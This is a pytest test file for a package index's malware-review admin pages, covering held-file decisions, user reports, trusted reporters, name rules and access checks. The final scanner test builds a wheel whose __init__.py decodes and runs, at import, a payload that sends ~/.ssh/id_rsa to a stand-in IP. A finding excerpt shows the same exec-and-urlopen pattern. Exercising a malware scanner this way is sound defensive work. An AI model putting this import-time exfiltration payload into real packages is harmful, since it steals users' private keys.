"""The malware review pages: the queue, a case and its decisions, the name rules and trusted
reporters, reporting a project; who may do what (SQLite and PostgreSQL).

Files are put on hold as the upload path does when the scanner says ``quarantine``
(``scanning.service.hold_file`` with a real ScanResult, in a write transaction): the scanner
engine itself is tested elsewhere, so these tests run with ``scan = off`` and do not depend on
its rules.
"""

from __future__ import annotations

import base64
import re
from collections.abc import Iterator
from pathlib import Path
from typing import Any

import pytest
from sqlalchemy import func, select

from bastion.accounts.models import ApiToken, User
from bastion.authz import OPERATOR
from bastion.events import CLI_CONTEXT, Event
from bastion.packaging import service
from bastion.packaging.models import File, Project
from bastion.scanning.models import MalwareReport, NameRule, ReviewCase
from bastion.scanning.result import Finding
from bastion.services import Bastion
from bastion.settings import load_settings
from tests.unit.uploads import hold_stored
from tests.conftest import make_user, post_upload
from tests.distbuilder import make_wheel, metadata_text, upload_form
from tests.unit.test_web_pages import (
    add_role,
    age_reauth,
    assert_page,
    csrf,
    post_form,
    reauth,
    redirected_to_sign_in,
    sign_in,
    upload,
)

EXCERPT = "exec(base64.b64decode(PAYLOAD)); urllib.request.urlopen('http://203.0.113.9/c2')"


@pytest.fixture
def bastion(data_dir: Path, database_url: str) -> Iterator[Bastion]:
    """As tests/conftest.py's, with the upload scanner off (files are held by the tests)."""
    instance = Bastion(load_settings(data_dir, database_url=database_url, scan="off"), run_migrations=False)
    yield instance
    instance.close()


def hold(bastion: Bastion, name: str, version: str) -> int:
    """Put the file of ``name`` ``version`` on hold as the scanner would; the case id."""
    with bastion.db.write() as session:
        project = service.get_project(session, name)
        file = session.execute(select(File).where(File.project_id == project.id)
                               .order_by(File.id.desc())).scalars().first()
        assert file is not None
        filename = file.filename
    return hold_stored(bastion, filename, (
        Finding(rule="network.raw-ip-url", file="evil/__init__.py", line=4, excerpt="http://203.0.113.9/c2",
                why="sends data to a hard-coded address", severity=4.0, category="network"),
        Finding(rule="install.exec-decoded", file="evil/__init__.py", line=3, excerpt=EXCERPT,
                why="decodes a hidden payload and runs it at import", severity=8.0, category="execution"),
    ), score=8.5, rules_version="test-rules-1")


def case_state(bastion: Bastion, case_id: int) -> tuple[str, str | None, str | None]:
    with bastion.db.read() as session:
        case = session.get(ReviewCase, case_id)
        assert case is not None
        return case.state, case.decided_by, case.decision_note


def file_path(bastion: Bastion, name: str) -> str | None:
    with bastion.db.read() as session:
        return session.execute(
            select(File.path).join(Project, Project.id == File.project_id).where(Project.normalized_name == name)
        ).scalar()


def count(bastion: Bastion, model: Any) -> int:
    with bastion.db.read() as session:
        return int(session.execute(select(func.count()).select_from(model)).scalar_one())


def event_actions(bastion: Bastion) -> list[str]:
    with bastion.db.read() as session:
        return list(session.execute(select(Event.action).order_by(Event.id)).scalars())


@pytest.fixture
def people(bastion: Bastion, client: Any, tmp_path: Path) -> dict[str, str]:
    """wicked-widgets: alice owner, bob maintainer; carol a stranger; root an admin."""
    tokens = {"alice": make_user(bastion, "alice"), "bob": make_user(bastion, "bob"),
              "carol": make_user(bastion, "carol"), "root": make_user(bastion, "root", admin=True)}
    upload(client, tmp_path, tokens["alice"], "wicked-widgets", "1.0")
    add_role(bastion, "wicked-widgets", "bob", "maintainer")
    return tokens


def decide(client: Any, case_id: int, action: str, **extra: str) -> Any:
    return post_form(client, f"/admin/review/{case_id}", {"action": action, **extra})


# ---------------------------------------------------------------------------------------------
# Who may see what
# ---------------------------------------------------------------------------------------------

def test_signed_out_visitors_are_sent_to_sign_in(bastion: Bastion, client: Any, people: dict[str, str]) -> None:
    case_id = hold(bastion, "wicked-widgets", "1.0")
    for path in ("/admin/review/", f"/admin/review/{case_id}", "/admin/review/?state=decided", "/admin/names",
                 "/projects/wicked-widgets/report"):
        assert redirected_to_sign_in(client, path), path
    token = csrf(client)  # the pre-sign-in CSRF token: the form is valid, the visitor is not signed in
    for path, data in ((f"/admin/review/{case_id}", {"action": "release"}),
                       ("/admin/names", {"action": "ban", "name": "wicked-widgets"}),
                       ("/projects/wicked-widgets/report", {"reason": "it is malware"})):
        response = client.post(path, data={"csrf_token": token, **data}, follow_redirects=False)
        assert response.status_code == 303 and response.headers["location"].startswith("/account/login"), path
    assert case_state(bastion, case_id)[0] == "open"
    assert count(bastion, NameRule) == 0 and count(bastion, MalwareReport) == 0


@pytest.mark.parametrize("who", ["alice", "carol"])
def test_non_admins_are_refused_everything(bastion: Bastion, client: Any, people: dict[str, str], who: str) -> None:
    case_id = hold(bastion, "wicked-widgets", "1.0")
    sign_in(client, who)
    for path in ("/admin/review/", "/admin/review/?state=decided", f"/admin/review/{case_id}", "/admin/review/999",
                 "/admin/names"):
        response = client.get(path)
        assert_page(response, 403)
        assert "only an index admin may do this" in response.text, path
        assert EXCERPT not in response.text
    for action in ("release", "remove", "remove-project", "dismiss"):
        response = decide(client, case_id, action, confirm="wicked-widgets")
        assert_page(response, 403)
    for data in ({"action": "ban", "name": "evil"}, {"action": "allow", "name": "evil"},
                 {"action": "trust", "username": who}):
        assert_page(post_form(client, "/admin/names", data), 403)
    assert case_state(bastion, case_id) == ("open", None, None)
    assert file_path(bastion, "wicked-widgets") is not None
    assert count(bastion, NameRule) == 0
    with bastion.db.read() as session:
        assert not session.execute(select(User.trusted_reporter).where(User.username == who)).scalar_one()
        assert session.execute(select(func.count()).select_from(User).where(User.is_active.is_(False))).scalar() == 0
    assert not any(a.startswith(("review.", "name.", "user.trusted")) for a in event_actions(bastion))


# ---------------------------------------------------------------------------------------------
# The queue and the decisions
# ---------------------------------------------------------------------------------------------

def test_admin_sees_findings_and_releases_a_held_file(bastion: Bastion, client: Any, people: dict[str, str],
                                                      tmp_path: Path) -> None:
    upload(client, tmp_path, people["alice"], "wicked-widgets", "2.0")
    case_id = hold(bastion, "wicked-widgets", "2.0")
    filename = "wicked_widgets-2.0-py3-none-any.whl"
    path = file_path(bastion, "wicked-widgets")
    with bastion.db.read() as session:
        held = session.execute(select(File).where(File.filename == filename)).scalar_one()
        path, sha256 = held.path, held.sha256_digest
    # Held: not listed, not downloadable, not on the project page.
    assert filename not in client.get("/simple/wicked-widgets/").text
    assert client.get(f"/{path}").status_code == 404
    assert filename not in client.get("/projects/wicked-widgets/").text

    sign_in(client, "root")
    admin = client.get("/admin/")
    assert re.search(r'id="open-cases">1</strong>', admin.text) and 'href="/admin/review/"' in admin.text
    queue = client.get("/admin/review/")
    assert_page(queue)
    row = queue.text.split(f'href="/admin/review/{case_id}"', 1)[1].split("</tr>", 1)[0]
    assert "wicked-widgets" in row and filename in row and "upload scan" in row and "8.5" in row
    assert "hidden" in row and "install.exec-decoded" in row
    assert "exec(base64.b64decode(PAYLOAD))" in row  # the strongest finding's excerpt, escaped
    assert "&#39;http://203.0.113.9/c2&#39;" in row

    page = client.get(f"/admin/review/{case_id}")
    assert_page(page)
    findings = page.text.split('id="findings"', 1)[1].split("</table>", 1)[0]
    assert findings.index("install.exec-decoded") < findings.index("network.raw-ip-url")  # strongest first
    assert "<code>evil/__init__.py:3</code>" in findings
    assert '<code class="excerpt">exec(base64.b64decode(PAYLOAD)); urllib.request.urlopen(&#39;' in findings
    assert "decodes a hidden payload and runs it at import" in findings
    assert sha256 in page.text and "test-rules-1" in page.text
    people_list = page.text.split('id="people"', 1)[1].split("</ul>", 1)[0]
    assert "alice" in people_list and "(owner)" in people_list and "bob" in people_list and "frozen" not in people_list
    assert 'id="dismiss"' not in page.text  # a hidden case cannot be dismissed
    assert 'id="release"' in page.text and 'name="confirm"' in page.text

    released = decide(client, case_id, "release", note="false positive: a test fixture")
    assert_page(released)
    assert released.url.path == f"/admin/review/{case_id}"
    assert "released" in released.text and 'id="decision-form"' not in released.text
    assert case_state(bastion, case_id) == ("released", "root", "false positive: a test fixture")
    assert filename in client.get("/simple/wicked-widgets/").text
    download = client.get(f"/{path}")
    assert download.status_code == 200 and download.content[:2] == b"PK"
    assert filename in client.get("/projects/wicked-widgets/").text
    assert "review.release" in event_actions(bastion)

    assert re.search(r'id="open-cases">0</strong>', client.get("/admin/").text)
    assert "No open cases" in client.get("/admin/review/").text
    decided = client.get("/admin/review/?state=decided")
    assert_page(decided)
    row = decided.text.split(f'href="/admin/review/{case_id}"', 1)[1].split("</tr>", 1)[0]
    assert "released" in row and "root" in row and "false positive: a test fixture" in row

    again = decide(client, case_id, "remove")  # decided already: refused, the file stays
    assert_page(again, 409)
    assert f"case #{case_id} was decided already (released by root)" in again.text
    assert client.get(f"/{path}").status_code == 200


def test_remove_deletes_the_held_file(bastion: Bastion, client: Any, people: dict[str, str], tmp_path: Path) -> None:
    upload(client, tmp_path, people["alice"], "wicked-widgets", "2.0")
    case_id = hold(bastion, "wicked-widgets", "2.0")
    sign_in(client, "root")
    removed = decide(client, case_id, "remove", note="exfiltrates ~/.ssh")
    assert_page(removed)
    assert case_state(bastion, case_id) == ("removed", "root", "exfiltrates ~/.ssh")
    with bastion.db.read() as session:
        names = set(session.execute(select(File.filename)).scalars())
    assert names == {"wicked_widgets-1.0-py3-none-any.whl"}  # 1.0 was never held
    assert "2.0" not in client.get("/simple/wicked-widgets/").text
    with bastion.db.read() as session:
        assert session.execute(select(User.is_active).where(User.username == "alice")).scalar_one()


def test_remove_project_freezes_its_users(bastion: Bastion, client: Any, people: dict[str, str],
                                          tmp_path: Path) -> None:
    upload(client, tmp_path, people["alice"], "wicked-widgets", "2.0")
    case_id = hold(bastion, "wicked-widgets", "2.0")
    sign_in(client, "root")

    for typed in ("", "wicked", "other-project"):  # the typed name must match
        refused = decide(client, case_id, "remove-project", confirm=typed)
        assert_page(refused, 400)
        assert "nothing was removed: type the project&#39;s name, wicked-widgets" in refused.text
    assert case_state(bastion, case_id)[0] == "open" and file_path(bastion, "wicked-widgets") is not None

    age_reauth(bastion)  # deleting a project and freezing accounts asks for a recent re-authentication
    stale = decide(client, case_id, "remove-project", confirm="wicked-widgets")
    assert stale.url.path == "/account/reauth"
    assert case_state(bastion, case_id)[0] == "open" and file_path(bastion, "wicked-widgets") is not None
    reauth(client)
    done = decide(client, case_id, "remove-project", confirm="Wicked_Widgets", note="credential stealer")
    assert_page(done)
    assert "frozen: alice, bob" in done.text
    assert case_state(bastion, case_id) == ("project-removed", "root", "credential stealer")
    with bastion.db.read() as session:
        assert session.execute(select(Project).where(Project.normalized_name == "wicked-widgets")).first() is None
        active = dict(session.execute(select(User.username, User.is_active)).all())
        assert session.execute(select(func.count()).select_from(ApiToken).where(
            ApiToken.revoked.is_(None), ApiToken.user_id.in_(select(User.id).where(User.is_active.is_(False)))
        )).scalar() == 0
    assert active == {"alice": False, "bob": False, "carol": True, "root": True}
    assert client.get("/simple/wicked-widgets/").status_code == 404
    assert event_actions(bastion).count("user.frozen") == 2

    # Their tokens no longer work: an upload with one is refused.
    directory = tmp_path / "after"
    directory.mkdir()
    wheel = make_wheel(directory, "other-thing", "1.0", metadata=metadata_text("other-thing", "1.0"))
    response = post_upload(client, people["bob"], wheel, upload_form(wheel, "other-thing", "1.0"))
    assert response.status_code == 403, response.text
    assert count(bastion, Project) == 0
    # The decided case and its decision stay on record.
    decided = client.get("/admin/review/?state=decided")
    assert "project-removed" in decided.text and "credential stealer" in decided.text


def test_dismiss(bastion: Bastion, client: Any, people: dict[str, str]) -> None:
    hidden = hold(bastion, "wicked-widgets", "1.0")
    sign_in(client, "carol")
    reported = post_form(client, "/projects/wicked-widgets/report", {"reason": "looks odd to me"})
    assert_page(reported)
    with bastion.db.read() as session:
        flag = session.execute(select(ReviewCase.id).where(ReviewCase.source == "report")).scalar_one()
    sign_in(client, "root")

    refused = decide(client, hidden, "dismiss")  # it hides a file: release or remove, never just dismiss
    assert_page(refused, 400)
    assert "hides something: release it or remove it, not dismiss it" in refused.text
    assert case_state(bastion, hidden) == ("open", None, None)

    page = client.get(f"/admin/review/{flag}")
    assert 'id="dismiss"' in page.text and "flag only" in page.text
    assert "carol" in page.text.split('id="reports"', 1)[1] and "looks odd to me" in page.text
    dismissed = decide(client, flag, "dismiss", note="benign")
    assert_page(dismissed)
    assert case_state(bastion, flag) == ("dismissed", "root", "benign")
    with bastion.db.read() as session:
        assert session.execute(select(Project.status)).scalar_one() == "active"


def test_bad_input_changes_nothing(bastion: Bastion, client: Any, people: dict[str, str]) -> None:
    case_id = hold(bastion, "wicked-widgets", "1.0")
    sign_in(client, "root")
    before = event_actions(bastion)

    for path in ("/admin/review/999999", "/admin/review/not-a-number", "/admin/review/-1"):
        assert_page(client.get(path), 404)
        assert_page(decide(client, 999999, "release"), 404)
    bad = decide(client, case_id, "publish")
    assert_page(bad, 400)
    assert "unknown decision &#39;publish&#39;" in bad.text
    long_note = decide(client, case_id, "release", note="x" * 2001)
    assert_page(long_note, 400)
    assert "the note is too long" in long_note.text
    no_csrf = client.post(f"/admin/review/{case_id}", data={"action": "release"})
    assert_page(no_csrf, 403)
    assert "CSRF check failed" in no_csrf.text
    wrong_csrf = client.post(f"/admin/review/{case_id}", data={"action": "release", "csrf_token": "forged"})
    assert_page(wrong_csrf, 403)
    names = client.post("/admin/names", data={"action": "ban", "name": "evil"})
    assert_page(names, 403)

    assert case_state(bastion, case_id) == ("open", None, None)
    assert client.get(f"/{file_path(bastion, 'wicked-widgets')}").status_code == 404
    assert count(bastion, NameRule) == 0
    new = event_actions(bastion)[len(before):]
    assert set(new) == {"csrf.refused"}, new  # only the refusals are on record


# ---------------------------------------------------------------------------------------------
# Reports
# ---------------------------------------------------------------------------------------------

def test_report_queues_a_case(bastion: Bastion, client: Any, people: dict[str, str]) -> None:
    sign_in(client, "carol")
    project = client.get("/projects/wicked-widgets/")
    assert 'href="/projects/wicked-widgets/report"' in project.text and "Report malware" in project.text
    form = client.get("/projects/wicked-widgets/report")
    assert_page(form)
    assert 'maxlength="2000"' in form.text and "<textarea" in form.text
    assert client.get("/projects/Wicked_Widgets/report", follow_redirects=False).headers["location"] == \
        "/projects/wicked-widgets/report"

    for reason, message in (("", "Say why you think the project is malicious"),
                            ("   \n\t ", "Say why you think the project is malicious"),
                            ("x" * 2001, "The reason is too long: at most 2000 characters")):
        refused = post_form(client, "/projects/wicked-widgets/report", {"reason": reason})
        assert_page(refused, 400)
        assert message in refused.text
    assert count(bastion, MalwareReport) == 0 and count(bastion, ReviewCase) == 0
    missing = post_form(client, "/projects/no-such-project/report", {"reason": "malware"})
    assert_page(missing, 404)
    assert_page(client.get("/projects/no-such-project/report"), 404)

    done = post_form(client, "/projects/wicked-widgets/report", {"reason": "setup.py downloads and runs a binary"})
    assert_page(done)
    assert done.url.path == "/projects/wicked-widgets/"
    assert "your report on wicked-widgets is queued for review" in done.text
    assert 'id="quarantine-banner"' not in done.text
    with bastion.db.read() as session:
        report = session.execute(select(MalwareReport)).scalar_one()
        assert (report.reporter, report.trusted, report.reason) == ("carol", False,
                                                                     "setup.py downloads and runs a binary")
        assert session.execute(select(Project.status)).scalar_one() == "active"
    again = post_form(client, "/projects/wicked-widgets/report", {"reason": "still malware"})
    assert_page(again, 409)
    assert "You have already reported &#39;wicked-widgets&#39;" in again.text
    assert "still malware" in again.text  # the form keeps what was typed
    assert count(bastion, MalwareReport) == 1

    sign_in(client, "root")
    queue = client.get("/admin/review/")
    assert "user report" in queue.text and "(1 report)" in queue.text and "flag" in queue.text


def test_trusted_reporter_quarantines_a_young_project(bastion: Bastion, client: Any, people: dict[str, str]) -> None:
    sign_in(client, "root")
    refused = post_form(client, "/admin/names", {"action": "trust", "username": "nobody"})
    assert_page(refused, 404)
    granted = post_form(client, "/admin/names", {"action": "trust", "username": "carol"})
    assert_page(granted)
    assert "carol is now a trusted reporter." in granted.text
    assert "carol" in granted.text.split('id="reporters"', 1)[1].split("</ul>", 1)[0]
    users = client.get("/admin/").text.split('id="users"', 1)[1]
    carol_row = users.split("carol", 1)[1].split("</tr>", 1)[0]
    assert "trusted reporter" in carol_row
    assert "trusted reporter" not in users.split("bob", 1)[1].split("</tr>", 1)[0]
    path = file_path(bastion, "wicked-widgets")
    assert client.get(f"/{path}").status_code == 200

    sign_in(client, "carol")
    done = post_form(client, "/projects/wicked-widgets/report", {"reason": "__init__ sends ~/.aws to a paste site"})
    assert_page(done)
    assert "your report quarantined wicked-widgets at once" in done.text
    assert "This project is quarantined: held for review by the index administrators; its files are not available" \
        in done.text
    assert 'id="files"' not in done.text
    simple = client.get("/simple/wicked-widgets/")
    assert simple.status_code == 200
    assert '<meta name="pypi:project-status" content="quarantined">' in simple.text
    assert ".whl" not in simple.text and 'href="' not in simple.text
    assert client.get(f"/{path}").status_code == 404
    assert "wicked-widgets" not in client.get("/simple/").text

    sign_in(client, "root")
    with bastion.db.read() as session:
        case_id = session.execute(select(ReviewCase.id)).scalar_one()
    page = client.get(f"/admin/review/{case_id}")
    assert "trusted reporter" in page.text.split('id="reports"', 1)[1] and "quarantined" in page.text
    assert 'id="dismiss"' not in page.text
    released = decide(client, case_id, "release", note="a false alarm")
    assert_page(released)
    assert client.get(f"/{path}").status_code == 200
    assert "pypi:project-status" not in client.get("/simple/wicked-widgets/").text
    assert 'id="quarantine-banner"' not in client.get("/projects/wicked-widgets/").text

    revoked = post_form(client, "/admin/names", {"action": "untrust", "username": "carol"})
    assert "carol is no longer a trusted reporter." in revoked.text
    with bastion.db.read() as session:
        assert not session.execute(select(User.trusted_reporter).where(User.username == "carol")).scalar_one()
    assert {"user.trusted-reporter-granted", "user.trusted-reporter-removed", "project.reported",
            "project.quarantined", "review.release"} <= set(event_actions(bastion))


# ---------------------------------------------------------------------------------------------
# Name rules
# ---------------------------------------------------------------------------------------------

def test_name_rules(bastion: Bastion, client: Any, people: dict[str, str], tmp_path: Path) -> None:
    sign_in(client, "root")
    page = client.get("/admin/names")
    assert_page(page)
    assert "No name rules." in page.text

    banned = post_form(client, "/admin/names", {"action": "ban", "name": "Evil_Thing", "reason": "removed malware"})
    assert_page(banned)
    assert "The name Evil_Thing is now banned." in banned.text
    rules = banned.text.split('id="rules"', 1)[1].split("</table>", 1)[0]
    assert "<code>evil-thing</code>" in rules and "removed malware" in rules and "root" in rules
    allowed = post_form(client, "/admin/names", {"action": "allow", "name": "requestz", "reason": "a real project"})
    assert "<code>requestz</code>" in allowed.text
    for data, status, message in (({"action": "ban", "name": "not a name!"}, 400, "is not a valid project name"),
                                  ({"action": "ban", "name": ""}, 400, "type the project name"),
                                  ({"action": "remove", "name": "never-listed"}, 404, "no rule for the name"),
                                  ({"action": "frobnicate"}, 400, "unknown action")):
        response = post_form(client, "/admin/names", data)
        assert_page(response, status)
        assert message in response.text
    with bastion.db.read() as session:
        assert dict(session.execute(select(NameRule.normalized_name, NameRule.rule)).all()) == {
            "evil-thing": "ban", "requestz": "allow"}

    wheel_dir = tmp_path / "banned"
    wheel_dir.mkdir()
    wheel = make_wheel(wheel_dir, "evil-thing", "1.0", metadata=metadata_text("evil-thing", "1.0"))
    response = post_upload(client, people["carol"], wheel, upload_form(wheel, "evil-thing", "1.0"))
    assert response.status_code in (400, 403), response.text
    assert count(bastion, Project) == 1

    removed = post_form(client, "/admin/names", {"action": "remove", "name": "evil-thing"})
    assert "The rule for evil-thing was removed." in removed.text
    with bastion.db.read() as session:
        assert list(session.execute(select(NameRule.normalized_name)).scalars()) == ["requestz"]
    assert {"name.ban", "name.allow", "name.rule-removed"} <= set(event_actions(bastion))


def test_a_case_whose_project_was_deleted_can_still_be_closed(bastion: Bastion, client: Any,
                                                              people: dict[str, str]) -> None:
    """The owner deleted the project while its file was held: nothing is hidden any more, so the
    case can be dismissed (release and remove have nothing left to act on)."""
    case_id = hold(bastion, "wicked-widgets", "1.0")
    with bastion.db.write() as session:
        service.delete_project(session, bastion, "wicked-widgets", principal=OPERATOR, context=CLI_CONTEXT)
    sign_in(client, "root")
    page = client.get(f"/admin/review/{case_id}")
    assert_page(page)
    assert "no longer exists" in page.text and 'id="dismiss"' in page.text
    for action in ("release", "remove"):
        refused = decide(client, case_id, action)
        assert_page(refused, 409)
        assert "no longer exists" in refused.text
    dismissed = decide(client, case_id, "dismiss", note="the owner deleted it")
    assert_page(dismissed)
    assert case_state(bastion, case_id) == ("dismissed", "root", "the owner deleted it")


def test_the_scanner_holds_a_malicious_upload_for_review(bastion_with: Any, tmp_path: Path) -> None:
    """With the real scanner (rejecting nothing outright, so that the upload is held rather than
    refused): a wheel whose ``__init__`` decodes and executes a payload that sends the user's SSH
    key to a network sink is held; the admin sees the finding and releases it."""
    bastion, client = bastion_with(scan="on", scan_reject_score=10.5)
    token = make_user(bastion, "mallory")
    make_user(bastion, "root", admin=True)
    payload = base64.b64encode(
        b"import os, urllib.request\n"
        b"urllib.request.urlopen('http://203.0.113.9/c', data=open(os.path.expanduser('~/.ssh/id_rsa'), 'rb').read())\n"
    ).decode()
    directory = tmp_path / "evil"
    directory.mkdir()
    wheel = make_wheel(directory, "wicked-widgets", "1.0", metadata=metadata_text("wicked-widgets", "1.0"),
                       files={"wicked_widgets/__init__.py": f"import base64\nexec(base64.b64decode('{payload}'))\n".encode()})
    response = post_upload(client, token, wheel, upload_form(wheel, "wicked-widgets", "1.0"))
    assert response.status_code == 200, response.text
    with bastion.db.read() as session:
        case = session.execute(select(ReviewCase)).scalar_one()
        assert (case.source, case.kind, case.hidden, case.filename) == ("scan", "file", True, wheel.name)
        case_id = case.id
    path = file_path(bastion, "wicked-widgets")
    assert wheel.name not in client.get("/simple/wicked-widgets/").text
    assert client.get(f"/{path}").status_code == 404

    sign_in(client, "root")
    queue = client.get("/admin/review/")
    assert wheel.name in queue.text and "upload scan" in queue.text
    page = client.get(f"/admin/review/{case_id}")
    findings = page.text.split('id="findings"', 1)[1].split("</table>", 1)[0]
    assert "wicked_widgets/__init__.py:2" in findings and "exec(base64.b64decode(" in findings
    assert_page(decide(client, case_id, "release", note="checked by hand"))
    assert wheel.name in client.get("/simple/wicked-widgets/").text
    assert client.get(f"/{path}").content == wheel.read_bytes()


def test_queue_without_the_slash_and_unknown_filters(bastion: Bastion, client: Any, people: dict[str, str]) -> None:
    hold(bastion, "wicked-widgets", "1.0")
    sign_in(client, "root")
    moved = client.get("/admin/review", follow_redirects=False)
    assert moved.status_code in (301, 307, 308) and moved.headers["location"].endswith("/admin/review/")
    junk = client.get("/admin/review/", params={"state": "<script>"})  # an unknown filter shows the queue
    assert_page(junk)
    assert "wicked_widgets-1.0-py3-none-any.whl" in junk.text and "<script>" not in junk.text
